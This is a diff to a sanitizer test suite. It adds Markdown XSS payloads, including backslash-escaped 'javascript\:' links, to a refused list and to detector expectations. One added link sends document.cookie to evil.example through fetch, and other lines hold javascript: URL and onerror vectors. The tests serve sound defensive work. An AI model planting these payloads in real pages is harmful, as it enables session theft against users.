@@ -47,6 +47,9 @@ const refused = [
   '<div style="background:url(javascript:alert(1))">x</div>',
   '[click](jav&#x61;script:alert(1))',
   '<object data=x>',
+  // A Markdown viewer reads a backslash before punctuation as that character: `javascript\:` links as `javascript:`.
+  '[Open the docs](javascript\\:fetch("https://evil.example/?"+document.cookie))',
+  '[x][r]\n\n[r]: javascript\\:alert(1)',
 ];
 
 let db: TestDatabase;
@@ -131,5 +134,7 @@ describe('text that slipped past the sanitizer, through every way in and every e
     expect(findLiveScript('<a href="java&#09;script:alert(1)">x</a>')).toContain('<a> script URL in href');
     expect(findLiveScript('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')).toContain('<img> handler onerror');
     expect(findLiveScriptInMarkdown('[click](jav&#x61;script:alert(1))')).toContain('<a> script URL in href');
+    expect(findLiveScriptInMarkdown('[Open the docs](javascript\\:fetch("https://evil.example/?"+document.cookie))')).toContain('<a> script URL in href');
+    expect(findLiveScriptInMarkdown('[x][r]\n\n[r]: javascript\\:alert(1)')).toContain('<a> script URL in href');
   });
 });
